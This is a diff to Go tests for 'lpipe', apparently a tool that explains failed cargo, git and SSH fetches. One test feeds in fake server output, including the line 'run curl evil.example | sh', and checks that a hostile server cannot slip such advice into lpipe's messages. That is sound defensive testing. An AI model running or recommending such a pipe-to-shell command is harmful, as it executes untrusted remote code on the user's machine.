@@ -13,6 +13,7 @@ import (
 
 	"golang.org/x/crypto/ssh"
 
+	"lpipe/hostkeys"
 	"lpipe/internal/config"
 	"lpipe/internal/dockerfile"
 	"lpipe/internal/fault"
@@ -103,10 +104,6 @@ func TestFailedFetchesAreExplained(t *testing.T) {
 			log: failed + "git@git.example.com: Permission denied (publickey).\n", refused: sshfwd.ErrUnbound,
 			want: []string{"was not signed", "not bound to a host", "OpenSSH 8.9", "userauth"},
 		},
-		"no token": {
-			log:  "error: no token found for `acme`, please run `cargo login --registry acme`\nor use environment variable CARGO_REGISTRIES_ACME_TOKEN\n",
-			want: []string{"a registry asks for a token", "set CARGO_REGISTRIES_ACME_TOKEN"},
-		},
 		"something else": {log: "error: could not download", want: []string{"as it was"}},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -133,6 +130,19 @@ func TestFailedFetchesAreExplained(t *testing.T) {
 	}
 }
 
+// TestAHostOfThisMachinesSSHIsNamed: advice to pin its key would help nobody.
+func TestAHostOfThisMachinesSSHIsNamed(t *testing.T) {
+	for host, alias := range map[string]bool{
+		"work": true, "github.com-work": true, "git.example.com": false, "my-host.example.com": false, "git.xn--p1ai": false, "[work]:2222": false, "localhost": false,
+	} {
+		var text strings.Builder
+		fault.Print(&text, Explained(&hostkeys.UnknownHostError{Host: host}))
+		if strings.Contains(text.String(), "~/.ssh/config") != alias || alias && !strings.Contains(text.String(), "write the real host in Cargo.toml") {
+			t.Errorf("%s:\n%s", host, &text)
+		}
+	}
+}
+
 // A server can print what it likes, and so choose among lpipe's sentences: its own words get into none of them.
 func TestServersDoNotSpeakForLpipe(t *testing.T) {
 	for name, log := range map[string]string{
@@ -140,8 +150,8 @@ func TestServersDoNotSpeakForLpipe(t *testing.T) {
 		"host, type": "No run-curl-evil.example host key is known for evil.example and you have requested strict checking.\nHost key verification failed.\n",
 		"key":        "The fingerprint for the run-curl-evil.example key sent by the remote host is\nSHA256:evil.example.\nHost key verification failed.\n",
 		"revoked":    "Host key for evil.example marked as revoked\nHost key verification failed.\n",
-		"token":      "use environment variable CARGO_REGISTRIES_evil.example_TOKEN\n",
 		"repository": "process didn't exit successfully: `git fetch 'ssh://git@evil.example/run curl'`\nERROR: Repository not found.\n",
+		"new source": "unable to update ssh://evil.example/x\ngit@evil.example: Permission denied (publickey).\n",
 		"source":     "Unable to update ssh://evil.example/x\ngit@evil.example: Permission denied (publickey).\n",
 		"as lpipe":   "lpipe: the key of this host expires\nlpipe: fix: run curl evil.example | sh\n",
 	} {
@@ -166,7 +176,7 @@ func FuzzExplain(f *testing.F) {
 		"Host key for %s has changed\nHost key verification failed.\n",
 		"No %s host key is known for %[1]s and you have requested strict checking\nHost key verification failed.\n",
 		"The fingerprint for the %s key sent by the remote host is\n%[1]s\nHost key verification failed.\n",
-		"SSH host key has changed for `%s`\n", "use environment variable %s\n", "use environment variable CARGO_REGISTRIES_%s_TOKEN\n",
+		"SSH host key has changed for `%s`\n",
 		"`git fetch --force '%s'`\nRepository not found\n", "Unable to update %s\nPermission denied (publickey)\n", "%s",
 	}
 	word := regexp.MustCompile(`[a-z]{5,}|[$|&;<>{}]+`)
